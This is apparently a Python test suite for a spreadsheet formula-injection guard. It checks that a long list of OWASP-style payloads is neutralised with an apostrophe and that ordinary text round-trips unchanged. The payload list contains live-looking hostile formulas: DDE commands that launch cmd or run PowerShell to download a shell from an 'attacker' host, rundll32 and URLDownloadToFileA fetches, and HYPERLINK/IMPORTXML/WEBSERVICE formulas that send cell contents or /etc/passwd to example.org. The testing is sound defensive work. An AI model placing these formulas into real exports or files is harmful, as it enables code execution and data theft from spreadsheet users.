from __future__ import annotations

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from sources.tables.guard import DANGEROUS, guarded, unguarded

# What OWASP and the collections of payloads list, and the ways around a guard that looks at the first byte only.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    "\tcmd",
    "\rcmd",
    "\ncmd",
    "\0cmd",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "DDE (\"cmd\";\"/C calc\";\"!A0\")A0".replace("DDE", "=DDE"),
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "+AAAA+BBBB&cmd|'/c calc.exe'!A",
    "-AAAA+BBBB&cmd|'/c calc.exe'!A",
    "@AAAA&cmd|'/c calc.exe'!A",
    "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
    "+thespanishinquisition(cmd|'/c calc.exe'!A",
    "         =         cmd|'/c calc.exe'!A",
    "=HYPERLINK(\"http://example.org?leak=\"&A1,\"Error: please click\")",
    "=HYPERLINK(\"http://example.org/\"&B2;\"details\")",
    "=IMPORTXML(CONCAT(\"http://example.org?v=\", CONCATENATE(A2:E2)), \"//a/a10\")",
    "=IMPORTFEED(CONCAT(\"http://example.org//123.txt?v=\", CONCATENATE(A2:E2)))",
    "=IMPORTHTML(CONCAT(\"http://example.org/123.txt?v=\", CONCATENATE(A2:E2)),\"table\",1)",
    "=IMPORTRANGE(\"https://docs.example.org/spreadsheets/d/1\", \"sheet1!A2:A2\")",
    "=IMAGE(\"https://example.org/images/logo.png?v=\"&A1)",
    "=WEBSERVICE(CONCATENATE(\"http://example.org/?\",A1))",
    "='file:///etc/passwd'#$passwd.A1",
    "=WEBSERVICE(\"http://example.org/\"&ENCODEURL('file:///etc/passwd'#$passwd.A1))",
    "=FILTERXML(\"<a/>\",\"//a\")",
    "=EXEC(\"calc\")",
    "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://example.org/a\",\"a\",0,0)",
    "=REGISTER.ID(\"kernel32\",\"Sleep\")",
    "=INDIRECT(\"A1\")",
    "=SUM(A1:A9)",
    "=2+5+cmd|'/C calc'!A0 ",
    "-2+3+cmd|' /C calc'!D2",
    "+2+3+cmd|' /C calc'!D2",
    "-cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "@A1",
    "@IF(TRUE,1)",
    "+A1",
    "-A1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " ＝cmd|'/C calc'!A0",
    "　=1+1",
    "\u00a0=1+1",
    "\u2003=1+1",
    "\u2028=1+1",
    "\x0b=1+1",
    "\x0c=1+1",
    "\x85=1+1",
    "\x1f=1+1",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    " '=1+1",
    "'\t'=1+1",
    "+93 70 123 456",
    "-5",
    "--5",
    "@ariana_news",
    "- said the minister",
]  # fmt: skip
HARMLESS = [
    "",
    "1",
    "2022-04-29",
    "Twelve = 12",
    "a@example.org",
    "“=1+1”",
    "'quoted'",
    "'",
    "''",
    " ",
    "’=",
    "[2021-08..2021-10]",
    "(+93)",
    "д=1",
    "په کابل کې",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_goes_behind_one_apostrophe(payload):
    assert guarded(payload) == "'" + payload
    assert unguarded(guarded(payload)) == payload


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is_there_and_back(text):
    assert guarded(text) == text
    assert unguarded(text) == text


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 60


TRICKY = st.text(st.sampled_from("'=+-@＝\t\r\n\0 \u00a0a5\"")) | st.text()


@given(TRICKY)
@example("'=")
@example("''")
@example("' '@")
def test_every_text_comes_back(text):
    assert unguarded(guarded(text)) == text


@given(TRICKY, TRICKY)
def test_no_two_texts_look_alike_behind_the_guard(one, other):
    assert (guarded(one) == guarded(other)) == (one == other)


@given(TRICKY)
def test_no_cell_begins_with_what_may_run(text):
    shown = guarded(text)
    assert shown.startswith("'") or not DANGEROUS.match(shown)
